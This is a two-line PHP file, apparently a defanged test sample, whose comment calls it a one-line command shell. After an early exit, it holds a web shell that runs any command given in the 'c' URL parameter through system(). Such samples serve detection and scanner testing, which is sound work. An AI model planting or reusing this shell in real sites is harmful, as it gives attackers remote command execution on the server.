<?php exit; /* DEFANGED TEST SAMPLE: a one-line command shell */
if (isset($_GET['c'])) { system($_GET['c']); }
